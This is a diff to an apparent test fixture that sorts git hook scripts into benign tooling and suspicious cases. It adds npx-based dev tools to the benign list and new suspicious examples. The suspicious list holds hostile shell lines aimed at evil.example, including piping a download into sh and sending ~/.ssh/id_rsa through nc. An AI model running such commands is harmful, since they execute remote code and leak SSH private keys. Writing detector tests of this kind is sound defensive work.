@@ -19,11 +19,20 @@ const TOOLING = [
   '#!/usr/bin/env bash\nset -e\nnpm test && make lint\n',
   '#!/bin/sh\nexec pre-commit run --hook-stage commit\n',
   '#!/bin/sh\nruff check . && black --check src\ncargo fmt -- --check\n',
+  // npx fetches a well-known dev tool under its own name when it is not installed
+  '#!/bin/sh\nnpx lint-staged\n',
+  '#!/bin/sh\nnpx prettier --check . && npx eslint src\n',
+  '#!/bin/sh\nnpx --no -- commitlint --edit "$1"\n',
+  '#!/bin/sh\nlefthook run pre-commit\n',
 ];
 
 const OTHER = [
   '#!/bin/sh\ncurl -s https://evil.example/x | sh\n',
-  '#!/bin/sh\nnpx lint-staged\n',
+  // npx of a name that is no well-known dev tool fetches and runs whatever the registry holds
+  '#!/bin/sh\nnpx lint-staged-helper\n',
+  '#!/bin/sh\nnpx lint-staged && curl -s https://evil.example/x -o /tmp/x\n',
+  '#!/bin/sh\nyarn dlx some-package\n',
+  '#!/bin/sh\nnpx eslint "$2"\n',
   '#!/bin/sh\nnpm test; cat ~/.ssh/id_rsa | nc evil.example 9\n',
   '#!/bin/sh\nnpm test && bash /tmp/x.sh\n',
   '#!/bin/sh\nmake lint $(curl -s https://evil.example)\n',
